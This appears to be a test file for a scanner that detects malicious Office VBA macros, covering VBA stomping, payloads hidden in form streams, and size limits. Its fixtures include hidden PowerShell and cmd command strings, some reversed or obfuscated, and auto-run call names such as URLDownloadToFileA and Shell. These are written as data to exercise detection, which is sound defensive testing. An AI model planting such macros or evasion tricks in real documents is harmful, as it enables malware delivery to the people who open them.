  test('of other versions of Office, and with an empty source', () => {
    for (const opcode of [0xad, 0xb6]) {
      const code = Buffer.concat([Buffer.alloc(2_500), compiledLiteral('powershell -w hidden -c ls', opcode)])
      assert.deepEqual(found(writeVba({ M: HARMLESS }, { compiled: code })), ['malicious Stomped'])
      assert.deepEqual(found(writeVba({ M: 'Attribute VB_Name = "M"\r\n' }, { compiled: code })), ['malicious Stomped'])
    }
    const known = Buffer.concat([Buffer.alloc(2_500), compiledLiteral('Hello', 0xb6)])
    assert.deepEqual(found(writeVba({ M: HARMLESS }, { compiled: known })), [])
  })
  test('with a command that the source has only in a comment, or with other characters', () => {
    const command = 'powershell -w hidden -c ls'
    const commented = HARMLESS.replace('MsgBox', `' ${command} "a"\r\nMsgBox`)
    assert.deepEqual(found(writeVba({ M: commented }, { compiled: compiled(command) })), ['malicious Stomped'])
    const used = HARMLESS.replace('MsgBox "Hello"', `MsgBox "Hello 'a' ${command}"`)
    assert.deepEqual(found(writeVba({ M: used }, { compiled: compiled(command) })), [])
    for (const text of [`cmd\t/c ${command}`, `${command} #\xe9`])
      assert.deepEqual(found(writeVba({ M: HARMLESS }, { compiled: compiled(text) })), ['malicious Stomped'], text)
  })
  test('with other texts, and with calls that the source does not have', () => {
    const plan = (texts: string[], names: string[]) => ({
      compiled: compiled(...texts),
      streams: { 'VBA/_VBA_PROJECT': Buffer.concat([Buffer.alloc(500), ...names.map(cachedName), Buffer.alloc(500)]) },
    })
    const pieces = ['Hello', 'powers', 'hell -w hid']
    const calls = ['AutoOpen', 'URLDownloadToFileA', 'Shell']
    assert.deepEqual(found(writeVba({ M: HARMLESS }, plan(pieces, calls))), ['malicious Stomped'])
    assert.deepEqual(found(writeVba({ M: HARMLESS }, plan(pieces, ['AutoOpen', 'MsgBox']))), [])
    // Names of deleted code stay in the cache.
    assert.deepEqual(found(writeVba({ M: HARMLESS }, plan(['Hello'], calls))), [])
  })
  test('with another number of lines', () => {
    const cache = { 'VBA/_VBA_PROJECT': Buffer.concat([Buffer.alloc(500), cachedName('Shell'), Buffer.alloc(500)]) }
    const lines = (count: number, streams = {}) =>
      found(writeVba({ M: HARMLESS }, { compiled: compiledLines(count), streams }))
    assert.deepEqual(lines(3), [])
    assert.deepEqual(lines(3, cache), [])
    assert.deepEqual(lines(5, cache), [])
    assert.deepEqual(lines(6), ['suspicious SourceMissing'])
    assert.deepEqual(lines(6, cache), ['malicious Stomped'])
    const continued = HARMLESS.replace('MsgBox', 'MsgBox _\r\n _\r\n')
    assert.deepEqual(found(writeVba({ M: continued }, { compiled: compiledLines(3), streams: cache })), [])
  })
  test('of lines that are not in the table does not run', () => {
    const stale = Buffer.concat([compiledLines(3), compiledLiteral('powershell -w hidden -c ls'), Buffer.alloc(20)])
    assert.deepEqual(found(writeVba({ M: HARMLESS }, { compiled: stale })), [])
  })
  test('without statements in the source', () => {
    for (const source of [' '.repeat(300), 'Attribute VB_Name = "M"\r\n\' Shell "calc"\r\n'])
      assert.deepEqual(found(writeVba({ M: source }, { compiled: compiled('Hello') })), ['suspicious SourceMissing'])
    const empty = Buffer.concat([Buffer.alloc(2_500), compiledLines(0)])
    assert.deepEqual(found(writeVba({ M: 'Attribute VB_Name = "M"\r\n' }, { compiled: empty })), [])
  })
  test('with the texts of the source, or others that tell nothing', () => {
    assert.deepEqual(found(writeVba({ M: HARMLESS }, { compiled: compiled('Hello', 'Good morning') })), [])
  })
  test('without a source', () => {
    assert.deepEqual(found(writeVba({ M: '' }, { compiled: compiled('Hello') })), ['suspicious SourceMissing'])
  })
})

suite('texts of forms', () => {
  const form = (text: string): Buffer =>
    macroDocument('Sub AutoOpen()\nShell UserForm1.TextBox1.Text\nEnd Sub', {
      storages: ['UserForm1'],
      streams: {
        'UserForm1/f': Buffer.alloc(40),
        'UserForm1/o': Buffer.concat([Buffer.alloc(20), Buffer.from(text), Buffer.alloc(9)]),
      },
    })

  test('that a macro runs', () => {
    assert.deepEqual(found(form('cmd /c powershell -nop -c "iex x"')), [
      'malicious AutoProgram',
      'suspicious AutoExecute',
    ])
    assert.deepEqual(found(form([...'cmd /c start x.bat'].reverse().join(''))), [
      'malicious AutoProgram',
      'suspicious AutoExecute',
    ])
    assert.deepEqual(found(form(Buffer.alloc(300, 'abc').toString('base64'))), [
      'suspicious AutoExecute',
      'suspicious FormPayload',
    ])
  })
  test('in the title of the form, or in the document of Office 97', () => {
    const source = 'Attribute VB_Name = "M"\r\nSub AutoOpen()\nShell Range("A1")\nEnd Sub'
    for (const name of ['UserForm1/\x03VBFrame', '1Table', 'Workbook', '\x05SummaryInformation']) {
      const withText = (text: string): string[] =>
        found(
          writeVba(
            { M: source },
            { storages: ['UserForm1'], streams: { [name]: Buffer.from(`\x00\x07 ${text}\x00\x00`.padEnd(99, '\0')) } },
          ),
        )
      assert.deepEqual(withText('cmd /c start x.bat'), ['malicious AutoProgram', 'suspicious AutoExecute'], name)
      assert.deepEqual(withText('Start the command'), ['suspicious AutoExecute'], name)
    }
  })
  test('for an object that the form names', () => {
    const source = 'Attribute VB_Name = "M"\r\nSub AutoOpen()\nGetObject(F.T.Tag).Create F.L.Tag, Null, s, p\nEnd Sub'
    const text = 'cmd /c start x.bat'.replace(/.{2}/g, '$&#!')
    const stream = Buffer.from(`\x00\x07 ${text}\x00\x00`.padEnd(99, '\0'))
    const document = writeVba({ M: source }, { storages: ['F'], streams: { 'F/o': stream } })
    assert.deepEqual(found(document), ['malicious AutoProgram'])
  })
  test('that are only text', () => {
    assert.deepEqual(found(form('Please enter the name of the program')), ['suspicious AutoExecute'])
  })
})

suite('a project that is too large', () => {
  const isTooLarge = (project: Uint8Array, sourceBytesMax?: number) => {
    const compound = readCompound(project)
    return compound && readProject(compound, sourceBytesMax)?.isTooLarge
  }

  test('by the source of its modules', () => {
    const project = writeVba({
      M: `Attribute VB_Name = "M"\r\n${"'".repeat(20_000)}`,
      N: 'Attribute VB_Name = "N"\r\n',
    })
    const bytes = 20_000 + 2 * 'Attribute VB_Name = "M"\r\n'.length
    assert.equal(isTooLarge(project, bytes), false)
    for (const less of [1, 30, 10_000]) assert.equal(isTooLarge(project, bytes - less), true)
  })

  test('by its directory', () => {
    const directory = (bytes: number) => {
      const record = Buffer.alloc(bytes)
      record.writeUInt16LE(0x7f, 0)
      record.writeUInt32LE(bytes - 6, 2)
      return pack(record)
    }
    const project = (bytes: number) => writeVba({ M: 'Attribute VB_Name = "M"\r\n' }, { directory: directory(bytes) })
    assert.equal(isTooLarge(project(DIRECTORY_BYTES_MAX)), false)
    assert.equal(isTooLarge(project(DIRECTORY_BYTES_MAX + 1)), true)
  })

  test('is refused, and so is one with too many procedures in front of the one that runs', () => {
    const procedures = Array.from({ length: PROCEDURES_MAX }, (_, i) => `Sub p${i}()\nEnd Sub\n`).join('')
    const { obstacle } = inspect(macroDocument(`${procedures}Sub AutoOpen()\nShell "calc"\nEnd Sub`))
    assert.equal(obstacle?.reason, 'too_complex')
  })
})
